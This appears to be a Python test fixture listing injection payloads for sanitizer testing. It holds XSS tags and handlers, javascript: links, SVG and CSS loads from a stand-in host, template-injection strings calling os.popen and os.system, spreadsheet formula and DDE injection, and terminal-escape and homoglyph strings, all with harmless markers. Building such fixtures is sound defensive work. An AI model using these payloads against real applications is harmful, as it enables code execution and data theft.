"""Words that try to run, load, lead away or steer, wherever a text becomes a page, a table, a program or a terminal.

``evil.example`` is an address that must never be asked for, and ``pwned`` a name that must never be set.
"""

RUN = "window.pwned=1"
LOAD = "http://evil.example/x"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></template></noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={LOAD}></SCRIPT>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"＜script＞{RUN}＜/script＞",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"<p style=animation-name:x onanimationstart={RUN}>",
)
LINKS = (
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    f"[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"javascript:{RUN}",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg)",
    f"<iframe src={LOAD}></iframe><iframe srcdoc='<script>{RUN}</script>'>",
    f"<base href={LOAD}><form action={LOAD}><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={LOAD}'>",
    f"<object data={LOAD}></object><embed src={LOAD}><link rel=stylesheet href={LOAD}>",
    f"![x]({LOAD})",
)
DRAWINGS = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href={LOAD} /><use href={LOAD}#a /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe src={LOAD}></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>",
    rf"$\href{{javascript:{RUN}}}{{x}}$ $$\unicode{{<img src=x onerror={RUN}>}}$$ \(x\) \[y\]",
    f"<style>@import '{LOAD}'; * {{ background: url({LOAD}) }}</style>",
    f"x' style='background:url({LOAD})'",
    "<style>body{display:none}</style>",
)
TEMPLATES = (
    "{{ 7 * 191 }} {% for x in range(9) %}pwned{% endfor %} {# x #}",
    "{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}",
    "{{{{7*191}}}} ${7*191} #{7*191} <%= 7*191 %> @{7*191}",
    "{sources} {0.__class__} %(x)s %s %n {title!r}",
    "'); import os; os.system('touch pwned'); ('",
    '"""); import os; os.system("touch pwned"); ("""',
    "`touch pwned` $(touch pwned); touch pwned | touch pwned && touch pwned",
    "__import__('os').system('touch pwned')",
    "!!python/object/apply:os.system ['touch pwned']",
    "%load_ext pwned\n!touch pwned\n%%bash\ntouch pwned",
)
TABLES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    'x",=1+1,"',
    "|=1+1|",
)
TERMINAL = (
    "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example/x\x07x\x1b]8;;\x07",
    "\x9b2J\x9d0;pwned\x9c",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "R\u0443r\u0456tania \u0420uritania",
    "a\u0300\u0301\u0302" * 50,
    "\ufeff\u200b\u200d\u2060\u00ad",
    "\U000e0001\U000e0041 \ufffe \uffff",
    "خطر התקפה 위협 危险",
)
ALL = (*SCRIPTS, *HANDLERS, *LINKS, *DRAWINGS, *TEMPLATES, *TABLES, *TERMINAL)
